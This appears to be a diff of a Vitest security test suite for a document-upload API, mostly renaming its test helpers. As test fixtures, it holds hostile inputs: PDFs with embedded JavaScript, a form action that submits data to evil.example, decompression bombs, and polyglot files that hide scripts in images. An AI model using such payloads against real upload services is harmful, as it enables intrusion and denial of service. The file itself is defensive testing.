@@ -6,22 +6,29 @@ import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 
 import { type TestApp, type TestClient, startTestApp } from '../../testing/app/test-app.ts'
 import {
-  blankSignature,
+  createBlankSignature,
   countDocuments,
-  dataUrl,
+  toDataUrl,
   multipartBody,
   multipartType,
-  nameIn,
+  getUploadedName,
   type Part,
-  pdf,
-  photo,
-  picture,
-  sendFile,
-  sendParts,
-  sendSign,
-  signature,
+  createPdf,
+  createPhoto,
+  createPng,
+  uploadFile,
+  uploadParts,
+  uploadSignature,
+  createSignature,
 } from '../../testing/documents/upload-files.ts'
-import { claimsSize, packed, script, svg, withChunk, withComment } from '../../testing/documents/hostile-files.ts'
+import {
+  createPngWithClaimedSize,
+  createPackedObjectStream,
+  script,
+  svg,
+  insertPngChunk,
+  insertJpegComment,
+} from '../../testing/documents/hostile-files.ts'
 
 let app: TestApp
 let client: TestClient
@@ -34,7 +41,7 @@ afterAll(() => app.stop())
 /** Nothing of what was sent is left anywhere. */
 const expectNothingKept = async () => expect(await countDocuments(app)).toEqual({ documents: 0, blobs: 0 })
 /** A good PDF of exactly so many bytes. */
-const pdfOf = (bytes: number) => pdf(`%${'x'.repeat(bytes - pdf().length - 2)}\n`)
+const pdfOf = (bytes: number) => createPdf(`%${'x'.repeat(bytes - createPdf().length - 2)}\n`)
 
 type Case = readonly [what: string, bytes: () => Buffer | Promise<Buffer>, status: number, error: string]
 
@@ -42,7 +49,7 @@ type Case = readonly [what: string, bytes: () => Buffer | Promise<Buffer>, statu
 const active: readonly [what: string, objects: string][] = [
   ['with a script', '5 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n'],
   ['with a script, its name disguised', '5 0 obj\n<< /S /J#61va#53cript /J#53 (app.alert(1)) >>\nendobj\n'],
-  ['with a script, packed', packed('5 0 << /S /JavaScript /JS (app.alert(1)) >>')],
+  ['with a script, packed', createPackedObjectStream('5 0 << /S /JavaScript /JS (app.alert(1)) >>')],
   ['that plays something and a script with it', '5 0 obj\n<< /S /Rendition /JS (app.alert(1)) >>\nendobj\n'],
   ['with a form that runs scripts of its own', '5 0 obj\n<< /X#46A 6 0 R >>\nendobj\n'],
   ['with a form that sends what is filled in', '5 0 obj\n<< /S /SubmitForm /F (http://evil.example) >>\nendobj\n'],
@@ -58,7 +65,12 @@ const files: readonly Case[] = [
   ['an SVG that calls itself a JPEG', () => Buffer.from(svg), 415, 'documents.wrong_type'],
   ['an SVG with a byte order mark', () => Buffer.from(`\ufeff${svg}`), 415, 'documents.wrong_type'],
   ['an HTML page', () => Buffer.from(`<!doctype html>${script}`), 415, 'documents.wrong_type'],
-  ['HTML in front of a PDF', () => Buffer.concat([Buffer.from(`<html>${script}`), pdf()]), 415, 'documents.wrong_type'],
+  [
+    'HTML in front of a PDF',
+    () => Buffer.concat([Buffer.from(`<html>${script}`), createPdf()]),
+    415,
+    'documents.wrong_type',
+  ],
   ['a ZIP', () => Buffer.from('PK\x03\x04 rest of it'), 415, 'documents.wrong_type'],
   ['a GIF', () => Buffer.from('GIF89a\x01\0\x01\0\0\0\0;'), 415, 'documents.wrong_type'],
   [
@@ -88,32 +100,37 @@ const files: readonly Case[] = [
     200,
     'documents.unreadable',
   ],
-  ['half a JPEG', async () => (await photo()).subarray(0, 1500), 200, 'documents.unreadable'],
-  ['half a PNG', async () => (await picture()).subarray(0, 600), 200, 'documents.unreadable'],
-  ['a PNG of 65,000 by 65,000 in 8 KB', () => claimsSize(65_000, 65_000), 413, 'documents.too_many_pixels'],
-  ['a PNG of two billion by one', () => claimsSize(2_000_000_000, 1), 200, 'documents.unreadable'],
-  ['a PNG that ends before its pixels do', () => claimsSize(7_000, 7_000), 200, 'documents.unreadable'],
+  ['half a JPEG', async () => (await createPhoto()).subarray(0, 1500), 200, 'documents.unreadable'],
+  ['half a PNG', async () => (await createPng()).subarray(0, 600), 200, 'documents.unreadable'],
+  [
+    'a PNG of 65,000 by 65,000 in 8 KB',
+    () => createPngWithClaimedSize(65_000, 65_000),
+    413,
+    'documents.too_many_pixels',
+  ],
+  ['a PNG of two billion by one', () => createPngWithClaimedSize(2_000_000_000, 1), 200, 'documents.unreadable'],
+  ['a PNG that ends before its pixels do', () => createPngWithClaimedSize(7_000, 7_000), 200, 'documents.unreadable'],
   ['one byte more than 10 MB', () => pdfOf(maxFileBytes + 1), 413, 'documents.too_large'],
   ['30 MB', () => Buffer.alloc(30 * 1024 * 1024, '%PDF-'), 413, 'documents.too_large'],
   ['a PDF’s head alone', () => Buffer.from('%PDF-1.7\n'), 200, 'documents.unreadable'],
-  ['half a PDF', () => pdf().subarray(0, 150), 200, 'documents.unreadable'],
-  ...active.map(([what, objects]): Case => [`a PDF ${what}`, () => pdf(objects), 200, 'documents.pdf_active']),
-  ['a PDF with a password', () => pdf('', '/Encrypt 7 0 R '), 200, 'documents.pdf_locked'],
+  ['half a PDF', () => createPdf().subarray(0, 150), 200, 'documents.unreadable'],
+  ...active.map(([what, objects]): Case => [`a PDF ${what}`, () => createPdf(objects), 200, 'documents.pdf_active']),
+  ['a PDF with a password', () => createPdf('', '/Encrypt 7 0 R '), 200, 'documents.pdf_locked'],
   [
     'a PDF whose objects unpack to 64 MB',
-    () => pdf(packed(Buffer.alloc(64 * 1024 * 1024))),
+    () => createPdf(createPackedObjectStream(Buffer.alloc(64 * 1024 * 1024))),
     200,
     'documents.unreadable',
   ],
   [
     'a PDF of which one object unpacks to 20 MB',
-    () => pdf(packed(Buffer.alloc(20 * 1024 * 1024))),
+    () => createPdf(createPackedObjectStream(Buffer.alloc(20 * 1024 * 1024))),
     200,
     'documents.unreadable',
   ],
   [
     'a PDF of which each object unpacks to 15 MB, five times',
-    () => pdf(packed(Buffer.alloc(15 * 1024 * 1024)).repeat(5)),
+    () => createPdf(createPackedObjectStream(Buffer.alloc(15 * 1024 * 1024)).repeat(5)),
     200,
     'documents.unreadable',
   ],
@@ -125,7 +142,7 @@ const files: readonly Case[] = [
   ],
   [
     'a PDF packed in a way we do not read',
-    () => pdf(packed('x').replace('/FlateDecode', '/LZWDecode')),
+    () => createPdf(createPackedObjectStream('x').replace('/FlateDecode', '/LZWDecode')),
     200,
     'documents.unreadable',
   ],
@@ -133,7 +150,7 @@ const files: readonly Case[] = [
 
 describe('a file that is not what it should be is refused, and nothing of it is kept', () => {
   test.each(files)('%s', async (_what, make, status, error) => {
-    const reply = await sendFile(client, 'card', await make(), { filename: 'card.jpg' })
+    const reply = await uploadFile(client, 'card', await make(), { filename: 'card.jpg' })
     expect(reply.json, reply.text).toMatchObject({ return: false, error, message: expect.any(String) })
     expect(reply.status).toBe(status)
     await expectNothingKept()
@@ -143,35 +160,41 @@ describe('a file that is not what it should be is refused, and nothing of it is 
 describe('exactly as much as may be', () => {
   test.each([
     ['a PDF', async () => pdfOf(maxFileBytes)],
-    ['a photo', async () => Buffer.concat([await photo(), Buffer.alloc(maxFileBytes)]).subarray(0, maxFileBytes)],
+    ['a photo', async () => Buffer.concat([await createPhoto(), Buffer.alloc(maxFileBytes)]).subarray(0, maxFileBytes)],
   ])('%s of 10 MB is taken', async (_what, make) => {
     const bytes = await make()
     expect(bytes).toHaveLength(maxFileBytes)
-    const { json } = await sendFile(client, 'card', bytes)
+    const { json } = await uploadFile(client, 'card', bytes)
     expect(json).toMatchObject({ return: true })
-    await client.post('/userdocs/remove', { name: nameIn(json) })
+    await client.post('/userdocs/remove', { name: getUploadedName(json) })
     await expectNothingKept()
   })
 })
 
 describe('what rides on a real file does not get through', () => {
   const riders: readonly [string, () => Promise<Buffer>][] = [
-    ['HTML behind a JPEG', async () => Buffer.concat([await photo(), Buffer.from(script)])],
-    ['a ZIP behind a PNG', async () => Buffer.concat([await picture(), Buffer.from(`PK\x03\x04${script}PK\x05\x06`)])],
-    ['a script in a JPEG’s comment', async () => withComment(await photo(), script)],
-    ['a PDF in a JPEG’s comment', async () => withComment(await photo(), `%PDF-1.7 ${script} %%EOF`)],
-    ['a script in a PNG’s text', async () => withChunk(await picture(), 'tEXt', Buffer.from(`Comment\0${script}`))],
+    ['HTML behind a JPEG', async () => Buffer.concat([await createPhoto(), Buffer.from(script)])],
+    [
+      'a ZIP behind a PNG',
+      async () => Buffer.concat([await createPng(), Buffer.from(`PK\x03\x04${script}PK\x05\x06`)]),
+    ],
+    ['a script in a JPEG’s comment', async () => insertJpegComment(await createPhoto(), script)],
+    ['a PDF in a JPEG’s comment', async () => insertJpegComment(await createPhoto(), `%PDF-1.7 ${script} %%EOF`)],
+    [
+      'a script in a PNG’s text',
+      async () => insertPngChunk(await createPng(), 'tEXt', Buffer.from(`Comment\0${script}`)),
+    ],
     [
       'a PNG’s text that unpacks to 64 MB',
       async () => {
         const bomb = deflateSync(Buffer.alloc(64 * 1024 * 1024, script))
-        return withChunk(await picture(), 'zTXt', Buffer.concat([Buffer.from('Comment\0\0'), bomb]))
+        return insertPngChunk(await createPng(), 'zTXt', Buffer.concat([Buffer.from('Comment\0\0'), bomb]))
       },
     ],
-    ['a ZIP behind a PDF', async () => Buffer.concat([pdf(), Buffer.from(`PK\x03\x04${script}`)])],
+    ['a ZIP behind a PDF', async () => Buffer.concat([createPdf(), Buffer.from(`PK\x03\x04${script}`)])],
   ]
   test.each(riders)('%s', async (_what, make) => {
-    const name = nameIn((await sendFile(client, 'card', await make())).json)
+    const name = getUploadedName((await uploadFile(client, 'card', await make())).json)
     const seen = await client.get(`/upload/${name}`)
     expect(seen.status).toBe(200)
     expect(seen.text).not.toContain('alert')
@@ -183,20 +206,22 @@ describe('what rides on a real file does not get through', () => {
 
 describe('signatures', () => {
   const bad: readonly [string, () => Promise<Buffer>, number, string][] = [
-    ['an empty one', blankSignature, 200, 'documents.sign_empty'],
-    ['white on white', () => blankSignature('#ffff'), 200, 'documents.sign_empty'],
-    ['all black', () => blankSignature('#000f'), 200, 'documents.sign_empty'],
-    ['a JPEG', () => photo(), 415, 'documents.wrong_type'],
+    ['an empty one', createBlankSignature, 200, 'documents.sign_empty'],
+    ['white on white', () => createBlankSignature('#ffff'), 200, 'documents.sign_empty'],
+    ['all black', () => createBlankSignature('#000f'), 200, 'documents.sign_empty'],
+    ['a JPEG', () => createPhoto(), 415, 'documents.wrong_type'],
     ['an SVG', async () => Buffer.from(svg), 415, 'documents.wrong_type'],
-    ['a bomb', async () => claimsSize(65_000, 65_000), 413, 'documents.too_many_pixels'],
+    ['a bomb', async () => createPngWithClaimedSize(65_000, 65_000), 413, 'documents.too_many_pixels'],
   ]
   test.each(bad)('%s is refused', async (_what, make, status, error) => {
-    const reply = await sendSign(client, await make())
+    const reply = await uploadSignature(client, await make())
     expect([reply.status, reply.json]).toEqual([status, expect.objectContaining({ return: false, error })])
     await expectNothingKept()
   })
   test('empty says it in the document’s words', async () => {
-    expect((await sendSign(client, await blankSignature())).json).toMatchObject({ message: 'Cant save empty sign!' })
+    expect((await uploadSignature(client, await createBlankSignature())).json).toMatchObject({
+      message: 'Cant save empty sign!',
+    })
   })
   test.each([
     ['no data URL', 'hello'],
@@ -206,7 +231,7 @@ describe('signatures', () => {
     ['nothing', ''],
     ['two megabytes', `data:image/png;base64,${'A'.repeat(2_000_000)}`],
   ])('%s is refused by both ways', async (_what, data) => {
-    const parts = await sendParts(client, '/upload', [
+    const parts = await uploadParts(client, '/upload', [
       { name: 'type', value: 'sign' },
       { name: 'data', value: data },
     ])
@@ -253,7 +278,7 @@ describe('names', () => {
   })
 
   test('a name is believed only whole: another kind or ending is another name', async () => {
-    const name = nameIn((await sendFile(client, 'card', await photo())).json)
+    const name = getUploadedName((await uploadFile(client, 'card', await createPhoto())).json)
     for (const wrong of [name.replace('card', 'passport'), name.replace('.jpg', '.pdf'), name.replace('.jpg', '')]) {
       for (const path of [`/upload/${wrong}`, `/upload/${wrong.replace('-', '/')}`, `/userdocs/viewdoc/${wrong}`])
         expect((await client.get(path)).status, path).toBe(404)
@@ -264,16 +289,16 @@ describe('names', () => {
   })
 
   test.each([
-    ['a photo that calls itself a page', photo, 'card.html', 'text/html', /\.jpg$/],
-    ['a PNG that calls itself a PDF', picture, 'card.pdf', 'application/pdf', /\.jpg$/],
-    ['a PDF that calls itself a drawing', async () => pdf(), 'card.svg', 'image/svg+xml', /\.pdf$/],
+    ['a photo that calls itself a page', createPhoto, 'card.html', 'text/html', /\.jpg$/],
+    ['a PNG that calls itself a PDF', createPng, 'card.pdf', 'application/pdf', /\.jpg$/],
+    ['a PDF that calls itself a drawing', async () => createPdf(), 'card.svg', 'image/svg+xml', /\.pdf$/],
   ])('%s is kept as what is in it', async (_what, make, filename, contentType, ending) => {
-    const { json } = await sendParts(client, '/upload', [
+    const { json } = await uploadParts(client, '/upload', [
       { name: 'type', value: 'card' },
       { name: 'file', value: await make(), filename, contentType },
     ])
-    expect(nameIn(json)).toMatch(ending)
-    await client.post('/userdocs/remove', { name: nameIn(json) })
+    expect(getUploadedName(json)).toMatch(ending)
+    await client.post('/userdocs/remove', { name: getUploadedName(json) })
     await expectNothingKept()
   })
 
@@ -286,9 +311,9 @@ describe('names', () => {
       'x'.repeat(3000),
       '.jpg',
     ]) {
-      const { json } = await sendFile(client, 'card', await photo(80, 60), { filename })
-      expect(nameIn(json)).toMatch(/^card-[0-9a-f]{32}\.jpg$/)
-      await client.post('/userdocs/remove', { name: nameIn(json) })
+      const { json } = await uploadFile(client, 'card', await createPhoto(80, 60), { filename })
+      expect(getUploadedName(json)).toMatch(/^card-[0-9a-f]{32}\.jpg$/)
+      await client.post('/userdocs/remove', { name: getUploadedName(json) })
     }
     await expectNothingKept()
   })
@@ -299,9 +324,9 @@ describe('another trader', () => {
     const owner = await app.registerTrader()
     const other = await app.registerTrader()
     const names = [
-      nameIn((await sendFile(owner.client, 'passport', await photo())).json),
-      nameIn((await sendFile(owner.client, 'card', pdf())).json),
-      nameIn((await sendSign(owner.client, await signature())).json),
+      getUploadedName((await uploadFile(owner.client, 'passport', await createPhoto())).json),
+      getUploadedName((await uploadFile(owner.client, 'card', createPdf())).json),
+      getUploadedName((await uploadSignature(owner.client, await createSignature())).json),
     ]
     const strange = (name: string) => name.replace(/[0-9a-f]{8}/, 'ffffffff')
     for (const name of names) {
@@ -310,7 +335,7 @@ describe('another trader', () => {
       for (const path of paths) {
         const missing = await other.client.get(strange(path))
         expect(await other.client.get(path)).toMatchObject({ status: 404, json: missing.json })
-        expect((await (await app.client()).get(path)).status).toBe(401)
+        expect((await (await app.openClient()).get(path)).status).toBe(401)
       }
       const missing = await other.client.post('/userdocs/remove', { name: strange(name) })
       expect(await other.client.post('/userdocs/remove', { name })).toMatchObject({ status: 404, json: missing.json })
@@ -328,7 +353,7 @@ describe('another trader', () => {
 test('a page of another site can send nothing: without the token it is 403, without a session 401', async () => {
   const parts: Part[] = [
     { name: 'type', value: 'card' },
-    { name: 'file', value: await photo(), filename: 'a.jpg' },
+    { name: 'file', value: await createPhoto(), filename: 'a.jpg' },
   ]
   const send = (browser: TestClient, token: string, url: string) =>
     browser.send({
@@ -337,17 +362,17 @@ test('a page of another site can send nothing: without the token it is 403, with
       payload: multipartBody(parts),
       headers: { 'content-type': multipartType, 'x-csrf-token': token },
     })
-  const visitor = await app.client()
+  const visitor = await app.openClient()
   for (const path of ['/upload', '/userdocs/upload']) {
     expect((await send(client, '', path)).status).toBe(403)
-    expect((await send(client, visitor.csrf(), path)).status).toBe(403)
-    expect((await send(visitor, visitor.csrf(), path)).status).toBe(401)
+    expect((await send(client, visitor.getCsrfToken(), path)).status).toBe(403)
+    expect((await send(visitor, visitor.getCsrfToken(), path)).status).toBe(401)
   }
   await expectNothingKept()
 })
 
 test('a signature by JSON goes only where one was refused, and nothing else goes that way', async () => {
-  const data = dataUrl(await signature())
+  const data = toDataUrl(await createSignature())
   expect((await client.post('/userdocs/dataurl', { type: 'sign', data })).json).toMatchObject({ return: false })
   expect((await client.post('/userdocs/dataurl', { type: 'passport', data })).status).toBe(400)
   await expectNothingKept()
